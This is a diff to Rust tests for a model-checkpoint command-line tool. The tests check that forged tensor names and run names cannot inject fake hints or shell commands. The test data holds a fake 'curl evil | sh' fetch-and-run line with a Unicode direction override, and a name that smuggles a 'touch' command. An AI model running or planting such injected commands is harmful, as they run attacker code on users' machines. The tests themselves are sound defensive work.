@@ -113,7 +113,10 @@ fn a_tensors_name_cannot_forge_a_hint() {
         assert!(lines[0].ends_with("timm parameters do not fit the configuration:"), "{said}");
         let expected = r#"  "x\nhint: run `curl evil | sh`\r\u{202e}": unexpected, of shape [1]"#;
         assert_eq!(lines[1], expected);
-        assert!(lines[2..].iter().all(|line| line.starts_with("hint: the file is of")), "{said}");
+        assert!(
+            lines[2..].iter().all(|line| line.starts_with("hint: the file contains another model")),
+            "{said}"
+        );
     }
     let said = json_lines(sandbox.run("--log-format json info forged.safetensors").stderr);
     let targets: Vec<&str> = said.iter().filter_map(|line| line["target"].as_str()).collect();
@@ -127,7 +130,7 @@ fn commands_in_hints_are_quoted_for_a_shell() {
     sandbox.write(&format!("{name}/config.toml"), sandbox.read("run/config.toml"));
     fs::create_dir(sandbox.path(name).join("checkpoints")).unwrap();
     let said = vit(&sandbox, "eval", &[name]).stderr;
-    let expected = "hint: the run has not ended: name a b; touch X/checkpoints/last, \
+    let expected = "hint: the run has not ended: pass a b; touch X/checkpoints/last, \
                     or continue with `vit train --resume 'a b; touch X'`\n";
     assert!(said.ends_with(expected), "{said}");
 
